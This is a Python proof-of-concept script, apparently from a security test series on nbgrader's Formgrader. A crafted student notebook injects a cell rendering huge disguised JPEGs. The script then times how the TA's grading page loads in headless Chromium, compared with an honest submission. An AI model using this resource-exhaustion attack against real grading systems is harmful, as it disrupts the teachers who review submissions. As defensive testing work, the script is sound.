"""a07: a01's escaped JPEGs (N of 23000 x 23000) in the page the TA grades written answers on: Formgrader's
/formgrader/submissions/<id>/ in the TA's Jupyter server (started as make lab does), opened in chromium with the
TA's token; aaron's page for comparison."""
import os, sys, sqlite3
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *
A = "ps1_memory"; N = int(os.environ.get("N", "4")); PORT = 8943
LIB = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "pctjpeg.py")).read().split("if __name__")[0] + f'''
from IPython.display import display
for _k in range({N}):
    display({{"image/jpeg": disguise(real_jpeg(23000, 23000, _k + 1), _k + 1), "text/plain": "img"}}, raw=True)
'''
m = honest(A)
idx = [i for i, c in enumerate(m.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory"][0]
m.cells.insert(idx + 1, nbformat.v4.new_code_cell(LIB))
d = make_course("a07")
hand_in(d, AARON, A, honest(A)); hand_in(d, MALLORY, A, m); hand_in(d, ZOE, A, honest(A))
grade(d, A); scores(d)
ids = dict(sqlite3.connect(f"{d}/gradebook.db").execute("""select student.id, submitted_notebook.id from submitted_notebook
   join submitted_assignment on submitted_notebook.assignment_id=submitted_assignment.id join student on submitted_assignment.student_id=student.id"""))
env = dict(ENV, DISTCOURSE_JUDGE="kernel", PYTHONSAFEPATH="1", HOME="/tmp/attack42-user-a07-home", PATH=CLONE + "/.venv/bin:" + ENV["PATH"])
os.makedirs(env["HOME"], exist_ok=True); chown(env["HOME"])
srv = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/jupyter", "lab",
                        "--no-browser", f"--port={PORT}", "--ServerApp.token=tatoken", "--notebook-dir=."], cwd=d, env=env,
                       stdout=open("/tmp/attack42-user-a07-server.log", "w"), stderr=subprocess.STDOUT)
time.sleep(12)
from playwright.sync_api import sync_playwright
try:
    with sync_playwright() as pw:
        for s in (AARON, MALLORY):
            b = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
            pg = b.new_page(); t = time.time()
            try:
                pg.goto(f"http://localhost:{PORT}/formgrader/submissions/{ids[s]}/?token=tatoken", timeout=300000, wait_until="load")
                sizes = pg.evaluate("Array.from(document.images).map(i => [i.naturalWidth, i.naturalHeight]).filter(x => x[0] > 1000)")
                print(f"{s}: Formgrader page loaded in {time.time()-t:.1f}s; large images: {sizes}", flush=True)
                t3 = time.time()
                for k in range(len(sizes)):
                    pg.evaluate(f"Array.from(document.images).filter(i => i.naturalWidth > 1000)[{k}].scrollIntoView()")
                    tk = time.time(); pg.screenshot(path=f"/tmp/attack42-user-a07-{s}.png", timeout=600000)
                    print(f"  image {k} painted in {time.time()-tk:.1f}s", flush=True)
                pg.screenshot(path=f"/tmp/attack42-user-a07-{s}.png", timeout=600000)
                print(f"  painting {time.time()-t3:.1f}s")
            except Exception as e:
                print(f"{s}: {type(e).__name__}: {str(e)[:300]} after {time.time()-t:.1f}s")
            b.close()
finally:
    srv.terminate(); srv.wait()
    shutil.rmtree(d); shutil.rmtree(env["HOME"])
